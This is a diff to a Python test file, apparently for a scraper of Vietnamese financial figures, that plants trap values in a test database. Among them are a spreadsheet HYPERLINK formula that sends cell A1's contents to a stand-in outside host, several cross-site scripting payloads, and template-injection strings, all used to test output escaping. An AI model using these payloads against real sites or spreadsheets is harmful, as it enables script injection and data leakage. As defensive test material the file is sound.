@@ -9,7 +9,7 @@ from spiders.items import Figures, Period, Place
 from tests.archive_samples import Sample, insert
 from tests.figure_samples import metric
 
-FORMULA = "=HYPERLINK(\"http://outside.example/?\"&A1,\"xem\")"
+FORMULA = '=HYPERLINK("http://outside.example/?"&A1,"xem")'
 CODE = (
     "<script>alert('bẫy')</script>", "<img src=http://outside.example/x.png onerror=alert('bẫy')>", "<svg onload=alert('bẫy')>",
     "</title></textarea></script><script>alert('bẫy')</script>", "{{7*7}}", "{% raise %}", "' onmouseover='alert(1)' \"",
@@ -33,7 +33,14 @@ def plant(db: sqlite_utils.Database) -> int:
             ),
         )  # fmt: skip
         made = metric(
-            text, "7 tỷ đồng", "7 tỷ đồng", "money", "7000000000", "VND", indicator="recovery_recommended_amount", agency=TRAP
+            text,
+            "7 tỷ đồng",
+            "7 tỷ đồng",
+            "money",
+            "7000000000",
+            "VND",
+            indicator="recovery_recommended_amount",
+            agency=TRAP,
         )
         made = replace(
             made, period=Period("period", TRAP, 0, 1, "2023-01-01", "2023-12-31"), place=Place(TRAP, TRAP, "24"), per=TRAP,
